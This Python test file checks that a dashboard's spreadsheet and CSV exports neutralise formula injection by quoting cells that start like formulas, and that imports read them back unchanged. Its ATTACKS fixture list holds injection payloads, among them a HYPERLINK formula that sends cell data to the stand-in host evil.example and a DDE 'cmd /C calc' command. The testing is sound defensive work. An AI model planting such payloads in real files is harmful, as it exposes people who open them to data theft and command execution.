"""Exports never hand a spreadsheet a formula: text starting like one is quoted (OWASP), numbers
stay numbers, and the readers take the quote off, so an export imports back unchanged."""

from __future__ import annotations

import datetime as dt
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from dashboard.ingest.excel import cell_text
from dashboard.ingest.export import csv_bytes, write_table, xlsx_bytes
from dashboard.ingest.formulas import neutralise, neutralise_frame
from dashboard.ingest.inspections_excel import template_workbook
from dashboard.ingest.ledger_excel import write_ledger
from dashboard.ingest.sites_excel import EXAMPLE, HEADERS, read_sites, write_sites
from dashboard.store.inspections import ChecklistView

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
           "\t=1", "\r=1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_starts_like_a_formula_is_quoted_and_reads_back(text):
    assert neutralise(text) == "'" + text
    assert cell_text(neutralise(text)) == text.strip()


@pytest.mark.parametrize("value", ["烟厂", "", "a=b", "'quoted", None, -3, -2.5, 0, dt.date(2025, 1, 1), True])
def test_anything_else_is_left_alone(value):
    assert neutralise(value) is value


def formula_cells(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [f"{sheet.title}!{cell.coordinate}" for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row if cell.data_type == "f"]


def test_sites_export_has_no_formula_and_imports_back_unchanged():
    rows = [{**EXAMPLE, "code": "GD-0001", "name": ATTACKS[0], "address": ATTACKS[1], "builder_unit": "-建设单位"}]
    content = write_sites(rows)
    assert formula_cells(content) == []
    sheet = load_workbook(io.BytesIO(content)).active
    cells = dict(zip(HEADERS, (c.value for c in sheet[2]), strict=True))
    assert cells["工地名称"] == "'" + ATTACKS[0] and cells["面积(平方米)"] == 42000
    back = read_sites(content, {"樱桃沟管委会": 1})
    assert back.ok, back.problems
    site = back.sites[0]
    assert (site.name, site.address, site.builder_unit) == (ATTACKS[0], ATTACKS[1], "-建设单位")


def test_ledger_export_and_inspections_template_have_no_formula():
    buffer = io.BytesIO()
    write_ledger([{"序号": 1, "会议": "第1次调度会", "问题/任务": ATTACKS[1], "整改措施": "-立即整改",
                   "责任单位": "@单位",
                   "完成时限": dt.date(2025, 12, 1), "状态": "未开始", "超期天数": -1, "结转次数": 0}], buffer)
    assert formula_cells(buffer.getvalue()) == []
    row = [c.value for c in load_workbook(buffer).active[2]]
    assert row[2:5] == ["'" + ATTACKS[1], "'-立即整改", "'@单位"] and row[8] == -1

    checklist = ChecklistView(1, "x", "+清单", "x", dt.date(2018, 1, 1), None, (("cover", 1, "=覆盖", "cover"),))
    content = template_workbook(checklist, [("GD-0001", ATTACKS[0], "侯寨乡")], dt.datetime(2025, 12, 11, 9), "=张伟")
    assert formula_cells(content) == []
    book = load_workbook(io.BytesIO(content))
    assert book["巡查记录"]["D1"].value == "'=覆盖" and book["工地清单"]["B2"].value == "'" + ATTACKS[0]


def test_tables_and_downloads_are_neutralised(tmp_path):
    frame = pd.DataFrame({"station_code": ["OAQ-1", "1316A"], "station_name": [ATTACKS[0], "烟厂"],
                          "aqi": [-1.5, 54.0], "n_iaqi": [0, 3]})
    assert neutralise_frame(frame)["station_name"].tolist() == ["'" + ATTACKS[0], "烟厂"]
    text = csv_bytes(frame)
    assert text.startswith(b"\xef\xbb\xbf") and text.decode("utf-8-sig").splitlines() == [
        "station_code,station_name,aqi,n_iaqi", "OAQ-1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"详情\"\")\",-1.5,0",
        "1316A,烟厂,54.0,3"]
    write_table(frame, tmp_path / "t.csv")
    assert pd.read_csv(tmp_path / "t.csv")["station_name"].tolist() == ["'" + ATTACKS[0], "烟厂"]
    write_table(frame, tmp_path / "t.xlsx")
    content = (tmp_path / "t.xlsx").read_bytes()
    assert content[:2] == b"PK" and formula_cells(content) == [] and formula_cells(xlsx_bytes(frame, "x")) == []
    assert [c.value for c in load_workbook(tmp_path / "t.xlsx").active[2]] == ["OAQ-1", "'" + ATTACKS[0], -1.5, 0]
